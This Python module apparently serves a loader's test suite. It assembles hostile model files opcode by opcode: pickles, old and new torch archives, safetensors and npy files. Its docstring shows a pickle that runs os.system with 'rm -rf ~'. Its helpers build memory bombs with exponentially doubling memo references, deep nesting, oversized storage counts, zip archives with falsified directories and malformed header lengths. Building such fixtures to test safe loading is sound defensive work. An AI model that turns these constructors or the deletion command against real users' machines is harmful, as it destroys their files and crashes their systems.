"""Hostile files, assembled opcode by opcode: no class that pickle would need has to exist.

write_pickle({"g_ema": call(name("os", "system"), "rm -rf ~")}, path)
write_stream({"w": tensor(storage(numel=2**60))}, path)     # torch before 1.6
write_archive({"w": tensor(shape=(3,), stride=(1,))}, path)  # torch since 1.6
"""

from __future__ import annotations

import itertools
import json
import pickle
import struct
import zipfile
from collections.abc import Callable, Mapping
from pathlib import Path
from typing import Any

MAGIC = 0x1950A86A20F9469CFC6C
THREE = {"0": bytes(12)}  # the storage "0" with three zeros


class Op(bytes):
    """Opcodes that leave one value on the stack."""


def op(value: Any) -> Op:
    """The opcodes of a plain value; those of an `Op` are itself."""
    match value:
        case Op():
            return value
        case None:
            return Op(b"N")
        case bool():
            return Op(b"\x88" if value else b"\x89")
        case int() if 0 <= value < 256:
            return Op(b"K" + bytes([value]))
        case int():
            digits = pickle.encode_long(value)
            return Op(b"\x8a" + bytes([len(digits)]) + digits)
        case float():
            return Op(b"G" + struct.pack(">d", value))
        case str():
            return Op(b"X" + struct.pack("<I", len(value.encode())) + value.encode())
        case bytes():
            return Op(b"\x8e" + struct.pack("<Q", len(value)) + value)
        case list():
            return Op(b"](" + b"".join(map(op, value)) + b"e")
        case tuple():
            return Op(b"(" + b"".join(map(op, value)) + b"t")
        case dict():
            return Op(b"}(" + b"".join(map(op, itertools.chain(*value.items()))) + b"u")
    raise TypeError(type(value))


def name(module: str, attribute: str) -> Op:
    return Op(f"c{module}\n{attribute}\n".encode())


def stack_name(module: str, attribute: str) -> Op:
    """The same by an opcode whose names may hold anything, even the end of a line."""
    return Op(op(module) + op(attribute) + b"\x93")


def call(function: Any, *arguments: Any) -> Op:
    return Op(op(function) + op(arguments) + b"R")


def new(kind: Any, *arguments: Any) -> Op:
    return Op(op(kind) + op(arguments) + b"\x81")


def build(made: Any, state: Any) -> Op:
    return Op(op(made) + op(state) + b"b")


def put(value: Any, index: int) -> Op:
    return Op(op(value) + b"r" + struct.pack("<I", index))


def get(index: int) -> Op:
    return Op(b"j" + struct.pack("<I", index))


def after(*values: Any) -> Op:
    """The last of these; the others are popped, but stay in the memo."""
    return Op(b"0".join(map(op, values)))


def laughs(kind: type = list, doublings: int = 40) -> Op:
    """Twice the same, of which each is twice the same, and so on: 2^40 words in a kilobyte."""
    value: Op = op("ha")
    for index in range(1000, 1000 + doublings):
        twice = {"a": get(index), "b": get(index)} if kind is dict else kind([get(index)] * 2)
        value = after(put(value, index), twice)
    return value


def deep(before: bytes, after: bytes, depth: int) -> Op:
    """The empty tuple, wrapped so many times."""
    return Op(before * depth + b")" + after * depth)


def update(table: Any, entries: Mapping[str, Any]) -> Op:
    return Op(op(table) + b"(" + b"".join(map(op, itertools.chain(*entries.items()))) + b"u")


def namespace(**state: Any) -> Op:
    return build(new(name("argparse", "Namespace")), state)


def module(**meta: Any) -> Op:
    """A network or a layer of NVIDIA's code."""
    described = {"type": "class", "version": 6, "module_src": "", "class_name": "Generator", **meta}
    return call(name("torch_utils.persistence", "_reconstruct_persistent_obj"), described)


def storage_file(data: bytes) -> Op:
    """A file of torch inside of a pickle, as NVIDIA's pickles hold their storages."""
    return call(name("torch.storage", "_load_from_bytes"), data)


def storage(key: Any = "0", numel: Any = 3, dtype: str = "FloatStorage", kind: Any = "storage", view: Any = ()) -> Op:
    return Op(op((kind, name("torch", dtype), key, "cpu", numel, *view)) + b"Q")


def tensor(stored: Any = None, offset: Any = 0, shape: Any = (3,), stride: Any = (1,)) -> Op:
    function = name("torch._utils", "_rebuild_tensor_v2")
    hooks = call(name("collections", "OrderedDict"))
    return call(function, stored or storage(), offset, shape, stride, False, hooks)


def array(shape: Any = (3,), code: Any = "f4", data: Any = bytes(12), order: str = "<") -> Op:
    kind = build(call(name("numpy", "dtype"), code, False, True), (3, order, None, None, None, -1, -1, 0))
    empty = call(name("numpy._core.multiarray", "_reconstruct"), name("numpy", "ndarray"), (0,), b"b")
    return build(empty, (1, shape, kind, False, data))


def pickled(value: Any, protocol: int = 4) -> bytes:
    return bytes([0x80, protocol]) + op(value) + b"."


def write_pickle(value: Any, path: Path, protocol: int = 4) -> Path:
    path.write_bytes(pickled(value, protocol))
    return path


def stream(value: Any, storages: Mapping[str, bytes] = THREE, itemsize: int = 4) -> bytes:
    """A file of torch before 1.6."""
    data = b"".join(struct.pack("<Q", len(data) // itemsize) + data for data in storages.values())
    heads = (MAGIC, 1001, {"little_endian": True}, value, list(storages))
    return b"".join(pickled(head, protocol=2) for head in heads) + data


def write_stream(value: Any, path: Path, storages: Mapping[str, bytes] = THREE) -> Path:
    path.write_bytes(stream(value, storages))
    return path


def write_archive(
    value: Any,
    path: Path,
    storages: Mapping[str, bytes] = THREE,
    more: Mapping[str, bytes] = {},
    compression: int = zipfile.ZIP_STORED,
    lie: Callable[[dict[str, zipfile.ZipInfo]], None] | None = None,
) -> Path:
    """A file of torch since 1.6, with `more` files in it; `lie` changes what its directory will say of the files."""
    data = {f"data/{key}": data for key, data in storages.items()}
    with zipfile.ZipFile(path, "w", compression) as archive:
        for file, content in {"data.pkl": pickled(value, protocol=2), **data, **more}.items():
            archive.writestr(f"archive/{file}", content)
        if lie:
            lie({info.filename.removeprefix("archive/"): info for info in archive.infolist()})
    return path


def write_safetensors(
    path: Path, header: Mapping[str, Any] | bytes, data: bytes = b"", length: int | None = None
) -> Path:
    text = header if isinstance(header, bytes) else json.dumps(header).encode()
    path.write_bytes(struct.pack("<Q", len(text) if length is None else length) + text + data)
    return path


def write_npy(path: Path, header: str, data: bytes = b"", version: bytes = b"\1\0", length: int | None = None) -> Path:
    form = "<H" if version == b"\1\0" else "<I"
    path.write_bytes(b"\x93NUMPY" + version + struct.pack(form, length or len(header)) + header.encode() + data)
    return path


SCRIPT = {"constants.pkl": pickled(()), "code/__torch__/m.py": b"raise SystemExit"}  # makes it a TorchScript archive
